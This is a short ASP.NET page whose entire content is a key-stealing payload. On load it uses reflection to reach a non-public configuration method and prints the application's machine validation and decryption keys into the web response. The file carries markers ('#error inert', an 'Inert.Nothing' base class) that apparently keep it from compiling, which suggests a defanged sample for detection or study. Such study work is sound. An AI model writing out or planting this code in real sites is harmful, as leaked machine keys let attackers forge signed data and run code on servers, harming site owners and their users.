<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ var a=System.Reflection.Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a"); var t=a.GetType("System.Web.Configuration.MachineKeySection"); var m=t.GetMethod("GetApplicationConfig",System.Reflection.BindingFlags.Static|System.Reflection.BindingFlags.NonPublic); var c=(System.Web.Configuration.MachineKeySection)m.Invoke(null,new object[0]); Response.Write(c.ValidationKey+"|"+c.DecryptionKey); }
</script>
